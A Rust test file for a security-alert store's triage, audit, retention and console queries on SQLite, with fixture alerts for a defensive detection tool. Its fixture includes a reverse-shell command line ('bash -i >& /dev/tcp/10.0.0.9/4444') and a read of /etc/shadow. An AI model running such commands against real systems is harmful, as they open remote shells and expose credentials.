//! Triage and the console's queries on SQLite.

use fa_model::{Priority, VerdictKind};
use fa_store::*;
use std::path::Path;

const MIN: i64 = 60_000_000_000;

fn open(dir: &Path) -> SqliteStore {
    SqliteStore::open(&dir.join("db.sqlite"), &SqliteOptions::default()).unwrap()
}

struct A<'a> {
    uuid: &'a str,
    rule: &'a str,
    prio: Priority,
    ns: &'a str,
    t: Nanos,
    verdict: VerdictKind,
    fp: &'a str,
    incident: &'a str,
    cmdline: &'a str,
}

fn analysed(a: &A<'_>, id: i64) -> Analysis {
    let body = serde_json::json!({
        "uuid": a.uuid, "rule": a.rule, "priority": a.prio.to_string(),
        "output": format!("{} (command={})", a.rule, a.cmdline),
        "output_fields": {"proc.cmdline": a.cmdline, "k8s.ns.name": a.ns},
    })
    .to_string();
    Analysis {
        alert_id: id,
        row: Some(NewAlert {
            uuid: a.uuid.into(),
            received_at: a.t,
            time: Some(a.t),
            rule: a.rule.into(),
            priority: Some(a.prio),
            source: Some("syscall".into()),
            hostname: Some("node-1".into()),
            namespace: Some(a.ns.into()),
            body,
        }),
        verdict: a.verdict,
        score: 1.0,
        verdict_json: "{}".into(),
        fingerprint: a.fp.into(),
        incident_id: Some(a.incident.into()),
        report_json: None,
        cluster: ClusterUpdate {
            rule: a.rule.into(),
            time: a.t,
            verdict: a.verdict,
            uuid: a.uuid.into(),
            location: format!("pod:{}/web", a.ns),
            activity: a.cmdline.into(),
        },
        analyzed_at: a.t,
    }
}

fn incident(
    id: &str,
    entity: &str,
    t: Nanos,
    v: VerdictKind,
    rule: &str,
    tactic: &str,
) -> IncidentRow {
    IncidentRow {
        id: id.into(),
        entity: entity.into(),
        first_seen: Some(t),
        last_seen: Some(t),
        alert_count: 1,
        verdict: v,
        updated_at: t,
        body: serde_json::json!({
            "id": id, "entity": entity, "tactics": [tactic],
            "entities": ["host:node-1"],
            "timeline": [{"rule": rule}],
        })
        .to_string(),
    }
}

/// Two incidents, two clusters, three alerts, an hour ago.
fn fixture(s: &mut SqliteStore, now: Nanos) {
    let t = now - 60 * MIN;
    let rows = [
        A {
            uuid: "u1",
            rule: "Terminal shell in container",
            prio: Priority::Notice,
            ns: "shop",
            t,
            verdict: VerdictKind::Malicious,
            fp: "fp-shell",
            incident: "inc-a",
            cmdline: "bash -i >& /dev/tcp/10.0.0.9/4444",
        },
        A {
            uuid: "u2",
            rule: "Read sensitive file untrusted",
            prio: Priority::Warning,
            ns: "shop",
            t: t + MIN,
            verdict: VerdictKind::Suspicious,
            fp: "fp-read",
            incident: "inc-a",
            cmdline: "cat /etc/shadow",
        },
        A {
            uuid: "u3",
            rule: "Read sensitive file untrusted",
            prio: Priority::Warning,
            ns: "kube-system",
            t: t + 2 * MIN,
            verdict: VerdictKind::Benign,
            fp: "fp-benign",
            incident: "inc-b",
            cmdline: "calico-node -felix",
        },
    ];
    let analyses: Vec<Analysis> = rows
        .iter()
        .enumerate()
        .map(|(i, a)| analysed(a, i as i64 + 1))
        .collect();
    s.write(&WriteBatch {
        analyses,
        incidents: vec![
            incident(
                "inc-a",
                "pod:shop/web",
                t + MIN,
                VerdictKind::Malicious,
                "Terminal shell in container",
                "execution",
            ),
            incident(
                "inc-b",
                "pod:kube-system/calico",
                t + 2 * MIN,
                VerdictKind::Benign,
                "Read sensitive file untrusted",
                "credential-access",
            ),
        ],
        ..Default::default()
    })
    .unwrap();
}

fn now() -> Nanos {
    to_nanos(chrono::Utc::now())
}

#[test]
fn triage_changes_are_stored_audited_and_survive_reopening() {
    let d = tempfile::tempdir().unwrap();
    let mut s = open(d.path());
    let n = now();
    fixture(&mut s, n);
    assert_eq!(s.triage_get(TriageKind::Incident, "inc-a").unwrap(), None);
    let change = TriageChange {
        status: Some(TriageStatus::Acknowledged),
        assignee: Some(Some("alice".into())),
        note: Some("looking at the reverse shell".into()),
    };
    let t = s
        .triage_update(TriageKind::Incident, "inc-a", &change, "bob", n)
        .unwrap()
        .unwrap();
    assert_eq!(t.status, TriageStatus::Acknowledged);
    assert_eq!(t.assignee.as_deref(), Some("alice"));
    assert_eq!(t.updated_by.as_deref(), Some("bob"));
    // Nothing to change: no audit entry.
    let same = TriageChange {
        status: Some(TriageStatus::Acknowledged),
        ..Default::default()
    };
    s.triage_update(TriageKind::Incident, "inc-a", &same, "carol", n + 1)
        .unwrap();
    // An unknown item is not created.
    assert_eq!(
        s.triage_update(TriageKind::Incident, "nope", &change, "bob", n)
            .unwrap(),
        None
    );
    drop(s);
    let s = open(d.path());
    let t = s
        .triage_get(TriageKind::Incident, "inc-a")
        .unwrap()
        .unwrap();
    assert_eq!(t.status, TriageStatus::Acknowledged);
    assert_eq!(t.updated_by.as_deref(), Some("bob"));
    let audit = s
        .triage_audit(TriageKind::Incident, "inc-a", &PageRequest::default())
        .unwrap();
    let fields: Vec<(&str, Option<&str>, Option<&str>)> = audit
        .items
        .iter()
        .map(|a| {
            (
                a.field.as_str(),
                a.old_value.as_deref(),
                a.new_value.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        fields,
        vec![
            ("note", None, Some("looking at the reverse shell")),
            ("assignee", None, Some("alice")),
            ("status", Some("new"), Some("acknowledged")),
        ]
    );
    assert!(audit.items.iter().all(|a| a.actor == "bob"));
    // Keyset pages of one.
    let p1 = s
        .triage_audit(
            TriageKind::Incident,
            "inc-a",
            &PageRequest {
                limit: 1,
                cursor: None,
            },
        )
        .unwrap();
    let p2 = s
        .triage_audit(
            TriageKind::Incident,
            "inc-a",
            &PageRequest {
                limit: 1,
                cursor: p1.next_cursor.clone(),
            },
        )
        .unwrap();
    assert_eq!(p1.items[0].field, "note");
    assert_eq!(p2.items[0].field, "assignee");
}

#[test]
fn muted_clusters_are_the_acknowledged_and_false_positive_ones() {
    let d = tempfile::tempdir().unwrap();
    let mut s = open(d.path());
    let n = now();
    fixture(&mut s, n);
    for (fp, st) in [
        ("fp-shell", TriageStatus::Resolved),
        ("fp-read", TriageStatus::Acknowledged),
        ("fp-benign", TriageStatus::FalsePositive),
    ] {
        let c = TriageChange {
            status: Some(st),
            ..Default::default()
        };
        s.triage_update(TriageKind::Cluster, fp, &c, "alice", n)
            .unwrap()
            .unwrap();
    }
    let mut muted = s.muted_clusters().unwrap();
    muted.sort();
    assert_eq!(muted, vec!["fp-benign".to_string(), "fp-read".to_string()]);
    let m = s
        .triage_map(
            TriageKind::Cluster,
            &["fp-shell".to_string(), "fp-x".to_string()],
        )
        .unwrap();
    assert_eq!(m.len(), 1);
    assert_eq!(m["fp-shell"].status, TriageStatus::Resolved);
}

#[test]
fn retention_deletes_triage_with_its_cluster_and_keeps_the_others() {
    let d = tempfile::tempdir().unwrap();
    let mut s = open(d.path());
    let n = now();
    fixture(&mut s, n);
    let c = TriageChange {
        status: Some(TriageStatus::FalsePositive),
        ..Default::default()
    };
    s.triage_update(TriageKind::Cluster, "fp-benign", &c, "a", n)
        .unwrap();
    // Nothing is old enough: triage stays.
    let keep = RetentionPolicy {
        max_age: Some(chrono::Duration::days(1)),
        ..Default::default()
    };
    s.apply_retention(&keep, n, 100).unwrap();
    assert!(s
        .triage_get(TriageKind::Cluster, "fp-benign")
        .unwrap()
        .is_some());
    let drop_all = RetentionPolicy {
        max_age: Some(chrono::Duration::minutes(1)),
        ..Default::default()
    };
    while s.apply_retention(&drop_all, n, 100).unwrap().more {}
    assert_eq!(s.get_cluster("fp-benign").unwrap(), None);
    assert_eq!(
        s.triage_get(TriageKind::Cluster, "fp-benign").unwrap(),
        None
    );
    assert!(s
        .triage_audit(TriageKind::Cluster, "fp-benign", &PageRequest::default())
        .unwrap()
        .items
        .is_empty());
}

#[test]
fn incident_filters_and_keyset_pages() {
    let d = tempfile::tempdir().unwrap();
    let mut s = open(d.path());
    let n = now();
    fixture(&mut s, n);
    let ids = |q: IncidentQuery| -> Vec<String> {
        s.console_incidents(&q, &PageRequest::default())
            .unwrap()
            .items
            .into_iter()
            .map(|i| i.id)
            .collect()
    };
    assert_eq!(ids(IncidentQuery::default()), vec!["inc-b", "inc-a"]);
    let q = |f: fn(&mut IncidentQuery)| {
        let mut q = IncidentQuery::default();
        f(&mut q);
        q
    };
    assert_eq!(
        ids(q(|q| q.verdict = Some(VerdictKind::Malicious))),
        vec!["inc-a"]
    );
    assert_eq!(
        ids(q(|q| q.tactic = Some("execution".into()))),
        vec!["inc-a"]
    );
    assert_eq!(
        ids(q(|q| q.rule = Some("Read sensitive file untrusted".into()))),
        vec!["inc-b"]
    );
    assert_eq!(ids(q(|q| q.namespace = Some("shop".into()))), vec!["inc-a"]);
    assert_eq!(
        ids(q(|q| q.namespace = Some("kube-system".into()))),
        vec!["inc-b"]
    );
    assert_eq!(
        ids(q(|q| q.hostname = Some("node-1".into()))),
        vec!["inc-b", "inc-a"]
    );
    assert!(ids(q(|q| q.hostname = Some("node-2".into()))).is_empty());
    assert!(ids(q(|q| q.status = Some(TriageStatus::Resolved))).is_empty());
    assert_eq!(ids(q(|q| q.status = Some(TriageStatus::New))).len(), 2);
    let p1 = s
        .console_incidents(
            &IncidentQuery::default(),
            &PageRequest {
                limit: 1,
                cursor: None,
            },
        )
        .unwrap();
    let p2 = s
        .console_incidents(
            &IncidentQuery::default(),
            &PageRequest {
                limit: 1,
                cursor: p1.next_cursor.clone(),
            },
        )
        .unwrap();
    assert_eq!(p1.items[0].id, "inc-b");
    assert_eq!(p2.items[0].id, "inc-a");
    assert_eq!(p2.next_cursor, None);
}

#[test]
fn cluster_filters_search_and_overview() {
    let d = tempfile::tempdir().unwrap();
    let mut s = open(d.path());
    let n = now();
    fixture(&mut s, n);
    let fps = |q: &ClusterQuery| -> Vec<String> {
        s.console_clusters(q, &PageRequest::default())
            .unwrap()
            .items
            .into_iter()
            .map(|c| c.fingerprint)
            .collect()
    };
    assert_eq!(
        fps(&ClusterQuery::default()),
        vec!["fp-benign", "fp-read", "fp-shell"]
    );
    assert_eq!(
        fps(&ClusterQuery {
            text: Some("/ETC/SHADOW".into()),
            ..Default::default()
        }),
        vec!["fp-read"]
    );
    let p1 = s
        .console_clusters(
            &ClusterQuery::default(),
            &PageRequest {
                limit: 2,
                cursor: None,
            },
        )
        .unwrap();
    let p2 = s
        .console_clusters(
            &ClusterQuery::default(),
            &PageRequest {
                limit: 2,
                cursor: p1.next_cursor.clone(),
            },
        )
        .unwrap();
    assert_eq!(p1.items.len(), 2);
    assert_eq!(p2.items[0].fingerprint, "fp-shell");

    let hits = s
        .search_alerts(
            &AlertFilter::default(),
            "dev/TCP",
            &PageRequest::default(),
            10_000,
        )
        .unwrap();
    assert_eq!(
        hits.items
            .iter()
            .map(|a| a.uuid.as_str())
            .collect::<Vec<_>>(),
        vec!["u1"]
    );
    // A scan bound of one alert: no match yet, but a cursor to go on from.
    let bounded = s
        .search_alerts(
            &AlertFilter::default(),
            "dev/tcp",
            &PageRequest::default(),
            1,
        )
        .unwrap();
    assert!(bounded.items.is_empty());
    assert_eq!(bounded.scanned, 1);
    assert!(bounded.next_cursor.is_some());

    let o = s.console_overview(n - 120 * MIN, n, MIN, 10).unwrap();
    assert_eq!(o.buckets.iter().map(|b| b.count).sum::<u64>(), 3);
    assert_eq!(o.buckets.len(), 3);
    assert_eq!(o.top_rules[0], ("Read sensitive file untrusted".into(), 2));
    let mut open_inc = o.open_incidents.clone();
    open_inc.sort_by_key(|(v, _)| *v);
    assert_eq!(
        open_inc,
        vec![(VerdictKind::Benign, 1), (VerdictKind::Malicious, 1)]
    );
    assert_eq!(o.noisy_benign.len(), 1);
    assert_eq!(o.noisy_benign[0].fingerprint, "fp-benign");
    // Outside the window: nothing.
    let o = s.console_overview(n - MIN, n, MIN, 10).unwrap();
    assert!(o.buckets.is_empty() && o.top_rules.is_empty());
}
